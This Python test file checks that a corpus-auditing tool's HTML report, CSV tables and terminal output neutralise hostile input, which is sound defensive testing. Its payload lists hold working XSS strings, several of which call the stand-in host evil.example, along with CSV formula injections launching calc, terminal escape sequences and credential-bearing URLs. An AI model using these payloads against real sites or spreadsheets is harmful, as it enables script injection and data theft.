"""Documents, names and addresses that are made to attack stay data: in a browser, in CSV and on a terminal."""

from __future__ import annotations

import csv
import io
import json
import random
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from click.testing import CliRunner

from curate.audit.sheet import cell
from curate.audited import audit
from curate.cli import main
from curate.engine import Inline
from curate.progress import Lines
from tests.audit.corpus import SECRET
from tests.browser import DESKTOP, PHONE, watched

PAYLOADS = 600
RECIPE = """
from curate.recipe import Recipe, Source
from curate.dedup.exact import ExactDedup
from curate.stages.heuristics.length import Length

recipe = Recipe(name="hostile", sources=(Source(name="x", path="x"),), stages=(Length(), ExactDedup()), tolerance=1.0)
"""

BEFORE = ("", '">', "'>", "</td></table>", "</pre></div></section>", "</style>", "</title>", "<!--", "-->", "]]>",
          "</svg>", "</textarea>", "</bdi>", "{", "\\", "&lt;/p&gt;", "\u2028", "\x00", "\ufeff", "＜/p＞")  # fmt: skip
CALLS = ("alert({n})", "pwned({n})", "fetch('//evil.example/{n}')", "top.alert({n})", "eval('pwned({n})')",
         "window['al'+'ert']({n})", "open('//evil.example/{n}')")  # fmt: skip
BODIES = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<ScRiPt\n>{call}</sCrIpT>",
    "<img src=x onerror={call}>",
    "<img src='//evil.example/{n}.png'>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><use href='//evil.example/{n}#x'/></svg>",
    "<math><mtext><script>{call}</script></mtext></math>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src='javascript:{call}'></iframe>",
    "<object data='data:text/html,<script>{call}</script>'></object>",
    "<embed src='javascript:{call}'>",
    "<a href='javascript:{call}' autofocus onfocus={call}>x</a>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<form action='//evil.example/{n}'><button formaction='javascript:{call}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href='//evil.example/{n}/'>",
    "<link rel=stylesheet href='//evil.example/{n}.css'>",
    "<style>*{{position:fixed;width:9999px;background:url(//evil.example/{n})}}</style>",
    "<div style='position:fixed;width:9999px;height:9999px'>x</div>",
    "<video src=x onerror={call}></video>",
    "<marquee onstart={call}>x</marquee>",
    "<template><script>{call}</script></template>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "\x1b]0;{call}\x07\x1b[2J\x1b[31m",
    "\x9b31m\x90{call}\x9c",
    "\u202e{call}\u202d\u2066\u2067\u2068",
    "\u0300\u0301\u0302\u0303" * 60 + "{call}",
    "W" * 4000 + "{call}",
    "啊" * 3000 + "{call}",
    '=HYPERLINK("http://evil.example/{n}","{call}")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A{n}",
    "-2+3+cmd|'/C calc'!A{n}",
    "\t=1+{n}",
    "%0d%0aSet-Cookie: x={n}",
    "https://user:s3cr3t{n}@evil.example/?token=s3cr3t{n}",
)


def payloads() -> list[str]:
    draw = random.Random(9)
    out = []
    for number in range(PAYLOADS):
        body, call = BODIES[number % len(BODIES)], draw.choice(CALLS).format(n=number)
        out.append(draw.choice(BEFORE) + body.format(call=call, n=number))
    return out


def attack(payload: str, number: int) -> dict[str, str]:
    """A document of which every field is an attack, a name of a field too."""
    urls = (
        payload,
        f"https://{payload}",
        f"https://h{number % 90}.example/{payload}?api_key=s3cr3t",
        f"https://user:s3cr3t@h{number}.example/{payload}",
    )
    return {
        **{"id": f"{payload}#{number}", "text": f"{payload}\n{payload[::-1]}\n{payload}" if number % 3 else payload},
        **{"url": urls[number % 4], "license": payload, "domain": payload, payload[:40]: payload},
        **{"lang": "en", "date": "2024-01-01", "kind": "prose"},
    }


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, Any]]:
    """The audit of a folder in which every field of every document is an attack, and some file names are."""
    folder = tmp_path_factory.mktemp("hostile")
    place = folder / "data"
    rows = [attack(payload, number) for number, payload in enumerate(payloads())]
    rows += [{**row, "id": f"again {row['id']}"} for row in rows[:40]]
    parts = (("<img src=x onerror=alert(1)>", rows[:300]), ("=1+1", rows[300:]), ("\u202egnp", [{"text": 7}]))
    for name, some in parts:
        (place / name).mkdir(parents=True)
        lines = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in some)
        (place / name / "';alert(2)<script>.jsonl").write_text(lines, "utf-8")
    recipe = folder / "recipe.py"
    recipe.write_text(RECIPE, "utf-8")
    out = folder / "out"
    return out, audit(str(place), str(out), Inline(), Lines(), recipe=str(recipe), language="zh")


def test_the_report_says_what_the_hostile_corpus_holds(attacked: tuple[Path, dict[str, Any]]) -> None:
    out, report = attacked
    assert report["origin"]["totals"]["documents"] == PAYLOADS + 40
    assert report["copies"]["documents"] >= 40
    texts = "".join(pl.read_parquet(out / "run" / "kept" / "*.parquet")["text"].to_list())
    assert all(payload in texts for payload in payloads())


@pytest.mark.parametrize("width", [PHONE, DESKTOP])
def test_nothing_of_a_hostile_corpus_runs_asks_or_breaks_the_page(
    attacked: tuple[Path, dict[str, Any]], browser: Any, width: int
) -> None:
    with watched(browser, attacked[0] / "index.html", width) as seen:
        seen.page.evaluate("document.querySelectorAll('details').forEach(one => { one.open = true; })")
        seen.page.evaluate("document.querySelectorAll('a, pre, summary, label').forEach(one => one.focus())")
        seen.page.mouse.move(200, 400)
        seen.page.mouse.wheel(0, 4000)
        seen.page.wait_for_timeout(200)
        assert seen.faults == [] and len(seen.requests) == 1
        assert seen.wide() == width
        strange = seen.page.evaluate(
            "[...document.querySelectorAll('script, iframe, object, embed, img, form, base, link, style, video')]"
            ".map(one => one.tagName)"
        )
        assert strange == ["STYLE"]
        handlers = seen.page.evaluate(
            "[...document.querySelectorAll('*')].filter(one => [...one.attributes].some("
            "it => it.name.startsWith('on') || /javascript:/i.test(it.value))).length"
        )
        assert handlers == 0
        outside = seen.page.evaluate(
            "[...document.querySelectorAll('main section')].filter(one => { const box = one.getBoundingClientRect();"
            " return box.left < -1 || box.right > innerWidth + 1; }).length"
        )
        assert outside == 0
        assert seen.page.evaluate("document.querySelectorAll('main > section').length") == 14


def test_what_drives_a_terminal_or_turns_a_line_is_nowhere(attacked: tuple[Path, dict[str, Any]]) -> None:
    for name in ("index.html", "tables/samples.csv", "tables/hosts.csv", "tables/licenses.csv"):
        said = (attacked[0] / name).read_text("utf-8")
        assert not {"\x1b", "\x9b", "\x90", "\u202e", "\u2066", "\x00"} & set(said), name
        assert "s3cr3t" not in said, name
    assert "s3cr3t" not in (attacked[0] / "report.json").read_text("utf-8")


def test_no_cell_of_a_table_is_a_formula(attacked: tuple[Path, dict[str, Any]]) -> None:
    quoted = 0
    for path in (attacked[0] / "tables").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"))):
            for value in row:
                quoted += value.startswith("'")
                if value.strip()[:1] in tuple("=+-@\t\r|%"):
                    float(value)  # a number may have a sign; anything else raises
    assert quoted >= 5


def test_cells_are_numbers_or_inert_text() -> None:
    assert [cell(value) for value in (None, 3, -2.5, True, "中文", "=1+1", " =1", "\u202ex", "－1")] == [
        "", 3, -2.5, True, "中文", "'=1+1", "' =1", "\\x202ex", "'－1"]  # fmt: skip


def test_names_that_attack_the_terminal_are_inert_on_it(tmp_path: Path) -> None:
    place = tmp_path / "\x1b[31mred\u202e"
    place.mkdir()
    (place / "a.jsonl").write_text('{"text": "\\u001b[2J https://u:s3cr3t@x.example/?token=s3cr3t"}\n')
    (tmp_path / "recipe.py").write_text(RECIPE)
    command = ["audit", str(place), "--out", str(tmp_path / "out"), "--inline", "--recipe", str(tmp_path / "recipe.py")]
    done = CliRunner().invoke(main, command)
    assert done.exit_code == 0, done.output
    assert "\x1b" not in done.output and "\u202e" not in done.output and "s3cr3t" not in done.output


def test_no_secret_of_an_address_is_told_on_the_terminal(run: Path) -> None:
    short = CliRunner().invoke(main, ["sample", str(run), "--reason", "too_short"])
    told = CliRunner().invoke(main, ["why", str(run), "web-secret"])
    refused = CliRunner().invoke(main, ["why", str(run), f"https://u:{SECRET}@nowhere.example/?token={SECRET}"])
    assert short.exit_code == told.exit_code == 0 and refused.exit_code == 2
    assert "private.example.com/a?token=[redacted]&page=2" in told.output
    for done in (short, told, refused):
        assert SECRET not in done.output
    log = io.StringIO()
    Lines(log).say(f"read https://u:{SECRET}@x.example/a\x1b[2J")
    assert log.getvalue() == "read https://[redacted]@x.example/a\\x1b[2J\n"
